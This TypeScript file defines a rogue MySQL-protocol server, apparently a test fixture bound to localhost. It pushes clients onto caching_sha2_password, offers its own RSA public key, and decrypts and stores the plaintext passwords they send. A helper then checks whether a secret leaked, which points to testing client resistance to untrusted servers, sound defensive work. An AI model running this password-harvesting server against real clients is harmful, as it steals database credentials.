import { constants, generateKeyPairSync, privateDecrypt, randomBytes } from 'node:crypto';
import { createServer, type Server, type Socket } from 'node:net';

/**
 * A MySQL-protocol server that tries to obtain the client's password: it greets with
 * caching_sha2_password, switches to it if the client answered with another plugin, then asks for
 * full authentication and offers its own RSA public key. Everything the clients send is kept, and
 * every packet it can decrypt with its private key is kept as a recovered password.
 */
export class RogueMysqlServer {
  private server?: Server;
  private readonly sockets = new Set<Socket>();
  readonly received: Buffer[] = [];
  readonly recovered: string[] = [];
  connections = 0;
  port = 0;
  private readonly keys = generateKeyPairSync('rsa', { modulusLength: 2048 });

  async start(): Promise<void> {
    this.server = createServer((s) => this.serve(s));
    await new Promise<void>((resolve) => this.server!.listen(0, '127.0.0.1', resolve));
    this.port = (this.server.address() as { port: number }).port;
  }

  async stop(): Promise<void> {
    for (const s of this.sockets) s.destroy();
    await new Promise<void>((resolve) => (this.server ? this.server.close(() => resolve()) : resolve()));
  }

  /** Whether any byte sequence the clients sent, or anything decrypted, contains the secret. */
  sawSecret(secret: string): boolean {
    const needle = Buffer.from(secret, 'utf8');
    return this.received.some((b) => b.includes(needle)) || this.recovered.some((r) => r.includes(secret));
  }

  private serve(socket: Socket): void {
    this.connections++;
    this.sockets.add(socket);
    socket.on('close', () => this.sockets.delete(socket));
    socket.on('error', () => undefined);
    const scramble = Buffer.from(randomBytes(20).map((b) => (b % 94) + 33)); // printable, no NUL
    let buffered = Buffer.alloc(0);
    let step = 0;
    const send = (seq: number, payload: Buffer): void => {
      const header = Buffer.alloc(4);
      header.writeUIntLE(payload.length, 0, 3);
      header[3] = seq;
      socket.write(Buffer.concat([header, payload]));
    };
    const pluginName = Buffer.from('caching_sha2_password\0');
    // Initial handshake v10
    const caps = 0x1 | 0x2 | 0x4 | 0x8 | 0x200 | 0x2000 | 0x8000 | 0x10000 | 0x20000 | 0x80000 | 0x200000;
    const hello = Buffer.concat([
      Buffer.from([10]),
      Buffer.from('8.0.36-rogue\0'),
      Buffer.from([1, 0, 0, 0]),
      scramble.subarray(0, 8),
      Buffer.from([0]),
      Buffer.from([caps & 0xff, (caps >> 8) & 0xff]),
      Buffer.from([255]),
      Buffer.from([2, 0]),
      Buffer.from([(caps >> 16) & 0xff, (caps >> 24) & 0xff]),
      Buffer.from([21]),
      Buffer.alloc(10),
      scramble.subarray(8, 20),
      Buffer.from([0]),
      pluginName,
    ]);
    send(0, hello);
    socket.on('data', (chunk: Buffer) => {
      buffered = Buffer.concat([buffered, chunk]);
      while (buffered.length >= 4) {
        const len = buffered.readUIntLE(0, 3);
        if (buffered.length < 4 + len) return;
        const seq = buffered[3]!;
        const payload = buffered.subarray(4, 4 + len);
        buffered = buffered.subarray(4 + len);
        this.received.push(Buffer.from(payload));
        this.tryDecrypt(payload, scramble);
        step++;
        if (step === 1) {
          // whatever the client answered: switch to caching_sha2_password with a fresh scramble
          send(seq + 1, Buffer.concat([Buffer.from([0xfe]), pluginName, scramble, Buffer.from([0])]));
        } else if (step === 2) {
          // the client's SHA-256 token: ask for full authentication
          send(seq + 1, Buffer.from([0x01, 0x04]));
        } else if (payload.length === 1 && payload[0] === 0x02) {
          // the client asks for the public key: give ours
          send(seq + 1, Buffer.concat([Buffer.from([0x01]), Buffer.from(this.keys.publicKey.export({ type: 'spki', format: 'pem' }))]));
        } else {
          // anything else: refuse, like a server with a wrong password
          send(seq + 1, Buffer.concat([Buffer.from([0xff, 0x15, 0x04]), Buffer.from('#28000Access denied')]));
          socket.end();
        }
      }
    });
  }

  private tryDecrypt(payload: Buffer, scramble: Buffer): void {
    if (payload.length !== 256) return;
    try {
      const plain = privateDecrypt({ key: this.keys.privateKey, oaepHash: 'sha1', padding: constants.RSA_PKCS1_OAEP_PADDING }, payload);
      const out = Buffer.from(plain.map((b, i) => b ^ scramble[i % scramble.length]!));
      this.recovered.push(out.toString('utf8').replace(/\0+$/, ''));
    } catch {
      // not encrypted with our key
    }
  }
}
